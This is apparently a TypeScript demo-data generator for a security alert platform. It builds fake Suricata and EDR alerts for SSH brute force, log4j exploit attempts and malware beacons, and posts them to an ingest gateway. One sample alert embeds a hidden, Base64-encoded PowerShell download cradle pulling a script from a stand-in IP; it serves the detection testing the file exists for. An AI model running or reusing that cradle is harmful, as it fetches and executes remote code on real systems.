/**
 * Realistic alerts for the demo: a brute-force burst against SSH, web-attack
 * signatures and malware beacons, in Vigil's own format and as Suricata EVE, for two
 * tenants. Pure generators; `startDemoFeed` posts them through the real gateway.
 */
export interface DemoTenant {
  readonly tenant: string;
  readonly token: string;
}

const signatures = [
  { sid: 2001219, msg: 'ET SCAN Potential SSH Scan', category: 'Attempted Information Leak', severity: 2, port: 22 },
  { sid: 2019401, msg: 'ET POLICY Vulnerable Java Version 1.8.x Detected', category: 'Potential Corporate Privacy Violation', severity: 1, port: 443 },
  { sid: 2024897, msg: 'ET USER_AGENTS Go HTTP Client User-Agent', category: 'Misc activity', severity: 3, port: 80 },
  { sid: 2100498, msg: 'GPL ATTACK_RESPONSE id check returned root', category: 'Potentially Bad Traffic', severity: 1, port: 80 },
];

/** Sent now and then from one of the scanning sources: with the scan before it, an incident (infra/demo/rules.yml). */
const exploit = { sid: 2034647, msg: 'ET EXPLOIT Apache log4j RCE Attempt (CVE-2021-44228)', category: 'Attempted Administrator Privilege Gain', severity: 1, port: 443 };

const vigilRules = [
  { id: 'edr-1001', name: 'Suspicious PowerShell encoded command', category: 'execution', severity: 'high' },
  { id: 'edr-2040', name: 'Credential dumping via LSASS access', category: 'credential-access', severity: 'critical' },
  { id: 'auth-0007', name: 'Multiple failed logins for one account', category: 'brute-force', severity: 'medium' },
];

const pick = <T>(items: readonly T[], n: number): T => items[n % items.length]!;

export function suricataAlert(n: number, now: number, signature = pick(signatures, n)): object {
  const s = signature;
  return {
    timestamp: new Date(now - (n % 5) * 1000).toISOString().replace('Z', '+0000'),
    flow_id: 1_000_000_000 + n,
    in_iface: 'eth0',
    event_type: 'alert',
    src_ip: `203.0.113.${(n % 7) + 10}`,
    src_port: 40000 + (n % 2000),
    dest_ip: `10.0.${n % 3}.${(n % 20) + 5}`,
    dest_port: s.port,
    proto: 'TCP',
    alert: { action: 'allowed', gid: 1, signature_id: s.sid, rev: 3, signature: s.msg, category: s.category, severity: s.severity },
  };
}

/**
 * What an encoded-command alert's sensor saw: `-EncodedCommand` takes Base64 of UTF-16LE, so
 * only a rule with `wide|base64offset` reads the download cradle inside (infra/demo/rules.yml).
 */
const encodedCradle = `powershell.exe -NoP -W Hidden -enc ${Buffer.from("IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1')", 'utf16le').toString('base64')}`;

export function vigilAlert(n: number, now: number, host: string): object {
  const r = pick(vigilRules, n);
  return {
    rule: { id: r.id, name: r.name, category: r.category },
    severity: r.severity,
    event_time: new Date(now - (n % 3) * 1000).toISOString(),
    source: { product: 'demo-edr', sensor_id: `${host}-agent` },
    observables: { host, user: pick(['alice', 'bob', 'svc-backup'], n), src_ip: `10.1.0.${(n % 30) + 2}`, process: 'powershell.exe' },
    labels: r.id === 'edr-1001' ? { environment: 'demo', CommandLine: encodedCradle } : { environment: 'demo' },
  };
}

/**
 * A brute-force episode against SSH: failed logins for several accounts from one source,
 * then a successful one. `k` picks the attacker, so every episode is a new incident.
 */
export function bruteForceEpisode(k: number, now: number, host: string): object[] {
  const src = `198.51.100.${(k % 200) + 20}`;
  const users = ['root', 'admin', 'oracle', 'ubuntu', 'test', 'git'];
  const failed = users.map((user, i) => ({
    rule: { id: 'auth-0007', name: 'Multiple failed logins for one account', category: 'brute-force' },
    severity: 'medium',
    event_time: new Date(now - (users.length - i) * 2000).toISOString(),
    source: { product: 'demo-sshd', sensor_id: `${host}-sshd` },
    observables: { host, user, src_ip: src, process: 'sshd' },
  }));
  const success = {
    rule: { id: 'auth-1000', name: 'Accepted SSH login', category: 'authentication' },
    severity: 'low',
    event_time: new Date(now).toISOString(),
    source: { product: 'demo-sshd', sensor_id: `${host}-sshd` },
    observables: { host, user: 'git', src_ip: src, process: 'sshd' },
  };
  return [...failed, success];
}

/** An exploit attempt from one of the sources that keep scanning (see suricataAlert). */
export function exploitAttempt(k: number, now: number): object {
  return suricataAlert(k, now, exploit);
}

/** The batches tick `n` of the feed posts for the `i`-th tenant (pure, so a test can check them all). */
export function demoTick(n: number, i: number, tenant: string, now: number): Array<{ format: 'vigil' | 'suricata'; records: object[] }> {
  const base = n * 10 + i * 1000;
  const batches: Array<{ format: 'vigil' | 'suricata'; records: object[] }> = [
    { format: 'suricata', records: Array.from({ length: 4 }, (_, k) => suricataAlert(base + k, now)) },
    { format: 'vigil', records: Array.from({ length: 2 }, (_, k) => vigilAlert(base + k, now, `${tenant}-ws-${(base + k) % 4}`)) },
  ];
  // Now and then an attack the tenant's correlation rules turn into an incident.
  if (n % 20 === 5) batches.push({ format: 'vigil', records: bruteForceEpisode(Math.floor(n / 20) + i * 100, now, `${tenant}-bastion`) });
  if (n % 30 === 10) batches.push({ format: 'suricata', records: [exploitAttempt(n + i, now)] });
  return batches;
}

export interface DemoFeed {
  stop(): void;
  stats(): { accepted: number; failed: number };
}

export function startDemoFeed(ingestUrl: string, tenants: readonly DemoTenant[], intervalMs = 1000): DemoFeed {
  let n = 0;
  let accepted = 0;
  let failed = 0;
  const post = async (t: DemoTenant, format: string, body: unknown) => {
    try {
      const response = await fetch(`${ingestUrl}/v1/alerts/batch?format=${format}`, {
        method: 'POST',
        headers: { authorization: `Bearer ${t.token}`, 'content-type': 'application/json' },
        body: JSON.stringify(body),
        signal: AbortSignal.timeout(10_000),
      });
      const result = (await response.json()) as { accepted?: number };
      accepted += result.accepted ?? 0;
      if (response.status >= 400) failed++;
    } catch {
      failed++;
    }
  };
  const timer = setInterval(() => {
    const now = Date.now();
    for (const [i, t] of tenants.entries()) for (const batch of demoTick(n, i, t.tenant, now)) void post(t, batch.format, batch.records);
    n++;
  }, intervalMs);
  return {
    stop: () => clearInterval(timer),
    stats: () => ({ accepted, failed }),
  };
}
